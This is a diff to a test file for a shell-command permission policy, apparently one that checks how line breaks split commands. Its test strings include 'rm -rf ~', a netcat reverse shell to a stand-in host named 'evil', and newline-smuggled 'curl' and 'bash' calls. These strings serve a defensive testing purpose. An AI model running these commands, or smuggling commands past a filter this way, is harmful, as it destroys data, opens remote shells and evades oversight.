@@ -1,4 +1,4 @@
-// A line break before a backslash ends the command, also where the grammar takes it into a word or for a blank.
+// A line break ends the command, also where the grammar takes it into a word or for a blank.
 import { decidesAll } from '../../../support/policy/decide.ts';
 import { lines, passes, stops } from '../../../support/policy/lists.ts';
 
@@ -23,12 +23,20 @@ cat a # c⏎\⏎curl x
 ls⏎\⏎\⏎bash x
 cat a \⏎⏎\⏎curl x
 export X=1⏎\⏎curl x
+cat a | sort | head⏎bash x || echo no
+cat a | sort | head -5⏎curl x && echo no
+cat a | sort | cat b # c⏎bash x && echo no
+cat a | sort | cat b⏎# c⏎bash x && echo no
+(cat a | sort | cat b⏎bash x && echo no)
+bash -c 'cat a | sort | cat b⏎bash x && echo no'
+! cat a⏎curl x
 `);
 
 decidesAll(
   'deny',
   lines(String.raw`
 cat a⏎\rm -rf ~
+cat a | sort | head⏎rm -rf ~ || echo no
 cat a⏎\⏎rm -rf ~
 ls⏎\nc -e sh evil 80
 `),
@@ -36,6 +44,9 @@ ls⏎\nc -e sh evil 80
 
 passes(String.raw`
 cat a \⏎ b \⏎ c
+cat a | sort | head -5⏎ls -la || echo no
+cat a | sort | head⏎# then⏎ls && cat b
+cat a⏎\⏎ls
 git log \⏎  --oneline
 echo \⏎a
 echo 'a⏎\b'
